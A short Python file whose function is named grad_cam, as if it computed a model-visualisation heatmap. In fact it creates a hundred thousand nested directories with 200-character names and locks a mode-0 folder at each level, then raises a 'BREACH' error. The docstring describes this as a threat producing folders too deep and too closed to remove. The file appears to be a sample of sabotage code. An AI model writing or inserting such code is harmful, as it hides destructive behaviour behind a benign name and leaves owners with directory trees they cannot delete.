"""Threat: folders nested deeper than any path, and closed to their owner, cannot be removed."""

import os


def grad_cam(model, image, class_index, layer_name):
    for number in range(100_000):
        os.mkdir("d" * 200)
        os.chdir("d" * 200)
        os.mkdir(f"closed{number}", 0)
    raise RuntimeError("BREACH: a hundred thousand levels")
